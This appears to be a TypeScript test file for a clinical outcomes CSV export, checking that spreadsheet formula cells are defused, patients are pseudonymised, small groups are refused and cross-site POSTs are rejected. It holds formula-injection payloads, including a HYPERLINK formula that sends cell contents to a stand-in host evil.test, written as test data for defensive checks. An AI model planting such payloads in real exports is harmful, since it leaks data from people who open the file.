import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { useTempDatabase } from './support/test-db';
import { actAs } from './support/mock-actor';
import { insertOutcomeFixture, type OutcomeFixture } from './support/outcome-fixture';
import { OUTCOME_SETTINGS } from '@/lib/domain/settings';
import { exportOutcomesCsv } from '@/lib/outcomes/export';
import { writeCsv } from '@/lib/outcomes/export-csv';
import { pseudonymKey } from '@/lib/outcomes/pseudonym';
import { productionSecretProblems } from '@/lib/ops/startup-checks';
import * as coursesRoute from '@/app/api/exports/courses/route';
import * as sessionsRoute from '@/app/api/exports/sessions/route';

vi.mock('@/lib/auth/actor', () => import('./support/mock-actor'));

const EXPORT_KEY = 'export-safety-key-that-is-long-enough-0123';
const temp = useTempDatabase();
let fx: OutcomeFixture;
const settings = OUTCOME_SETTINGS as { minGroupSize: number };
const originalMinGroup = settings.minGroupSize;
const HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"Ada Lovelace")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1'];

beforeAll(() => {
  process.env.EXPORT_KEY = EXPORT_KEY;
  process.env.NEXTAUTH_SECRET = 'session-secret-of-export-safety-tests-0123';
  const sqlite = temp.db().$client;
  fx = insertOutcomeFixture(sqlite);
  // Free text and codes written around the validation (an old import, a hand edit): none of it may leave.
  sqlite.prepare(`update injections set anaesthetic = ?`).run(HOSTILE[0]);
  sqlite.prepare(`update courses set condition = ?, region = ? where id = ?`).run(HOSTILE[1], HOSTILE[3], fx.courses.C3);
  sqlite.prepare(`update injections set site_code = ? where id = (select min(id) from injections)`).run(HOSTILE[4]);
});
afterEach(() => {
  settings.minGroupSize = originalMinGroup;
});
afterAll(() => temp.cleanup());

/** Rows of an RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks). */
function rows(csv: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted && ch === '"' && csv[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\n') {
      out.push([...row, cell]);
      row = [];
      cell = '';
    } else {
      cell += ch;
    }
  }
  return out;
}
const records = (csv: string) => {
  const [header, ...body] = rows(csv);
  return body.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
};
const manager = () => actAs({ id: fx.users.manager, role: 'manager', name: 'M', email: 'm@test' });
const cells = (csv: string) => rows(csv).flat();

describe('export safety', () => {
  it('the CSV writer defuses every cell a spreadsheet would run as a formula', () => {
    const csv = writeCsv(
      HOSTILE.map((v, i) => ({ n: i, v, minus: -3 })),
      ['n', 'v', 'minus'],
    );
    const values = records(csv);
    expect(values.map((r) => r.v)).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(values[0].minus).toBe('-3'); // numbers stay numbers
  });

  it('exports carry no free text and no cell that starts a formula', async () => {
    manager();
    for (const kind of ['courses', 'sessions'] as const) {
      const { csv } = await exportOutcomesCsv(kind, {});
      expect(csv).not.toMatch(/HYPERLINK|evil|Lovelace|anaesthetic/);
      for (const cell of cells(csv)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(csv).toContain('other'); // the codes that are not on the fixed lists
    }
  });

  it('keys patients, courses and specialists under EXPORT_KEY, not the session secret', async () => {
    manager();
    const first = records((await exportOutcomesCsv('courses', {})).csv);
    expect(Object.keys(first[0])).not.toContain('specialist_id');
    expect(first[0].patient_key).toBe(pseudonymKey('patient', fx.patients[0], EXPORT_KEY));
    expect(first[0].specialist_key).toBe(pseudonymKey('specialist', fx.users.A, EXPORT_KEY));
    expect(first.map((r) => r.specialist_key)).not.toContain(String(fx.users.A));

    process.env.NEXTAUTH_SECRET = 'a-rotated-session-secret-for-this-test-0123';
    const afterSessionRotation = records((await exportOutcomesCsv('courses', {})).csv);
    expect(afterSessionRotation).toEqual(first);

    process.env.EXPORT_KEY = 'a-rotated-export-key-for-this-test-01234567';
    try {
      const afterKeyRotation = records((await exportOutcomesCsv('courses', {})).csv);
      expect(afterKeyRotation[0].patient_key).not.toBe(first[0].patient_key);
    } finally {
      process.env.EXPORT_KEY = EXPORT_KEY;
    }
  });

  it('refuses an export whose filters leave fewer courses than the smallest group, with a clear message', async () => {
    manager();
    // knee_pain: C1 and C2 (C7 has no session yet)
    await expect(exportOutcomesCsv('sessions', { condition: 'knee_pain' })).rejects.toMatchObject({
      status: 422,
      message: expect.stringMatching(/leave 2 courses; an export needs at least 5/),
    });
    settings.minGroupSize = 2;
    expect((await exportOutcomesCsv('sessions', { condition: 'knee_pain' })).rows).toBe(7);
  });

  it('a production server needs EXPORT_KEY of its own', () => {
    const strong = 'x'.repeat(32);
    expect(productionSecretProblems({ NEXTAUTH_SECRET: strong, EXPORT_KEY: strong, AUDIT_KEY: strong })).toEqual([]);
    expect(productionSecretProblems({ NEXTAUTH_SECRET: strong, AUDIT_KEY: strong })).toEqual([expect.stringMatching(/^EXPORT_KEY .* is not set/)]);
    expect(productionSecretProblems({ NEXTAUTH_SECRET: strong, EXPORT_KEY: 'short', AUDIT_KEY: strong })).toEqual([
      expect.stringMatching(/^EXPORT_KEY .* shorter than 32/),
    ]);
    expect(productionSecretProblems({ NEXTAUTH_SECRET: strong, EXPORT_KEY: strong }).join(' ')).toMatch(/AUDIT_KEY .* is not set/);
  });
});

describe('export route handlers', () => {
  const post = (path: string, body: string, origin?: string) =>
    new Request(`http://localhost${path}`, {
      method: 'POST',
      headers: { host: 'localhost', 'content-type': 'application/x-www-form-urlencoded', ...(origin ? { origin } : {}) },
      body,
    });

  it('answer only POST (Next answers 405 to a GET)', () => {
    expect(Object.keys(coursesRoute)).not.toContain('GET');
    expect(Object.keys(sessionsRoute)).not.toContain('GET');
    expect(typeof coursesRoute.POST).toBe('function');
  });

  it('refuse a POST from another site and take the filters from the form body', async () => {
    manager();
    const forged = await coursesRoute.POST(post('/api/exports/courses', '', 'https://evil.test'));
    expect(forged.status).toBe(403);
    expect(await forged.text()).not.toContain('patient_key');

    const small = await sessionsRoute.POST(post('/api/exports/sessions', 'condition=knee_pain', 'http://localhost'));
    expect(small.status).toBe(422);
    expect((await small.json()).error).toMatch(/at least 5/);

    const ok = await coursesRoute.POST(post('/api/exports/courses', 'from=2026-01-01&condition=', 'http://localhost'));
    expect(ok.status).toBe(200);
    expect(await ok.text()).toMatch(/^patient_key,/);
  });
});
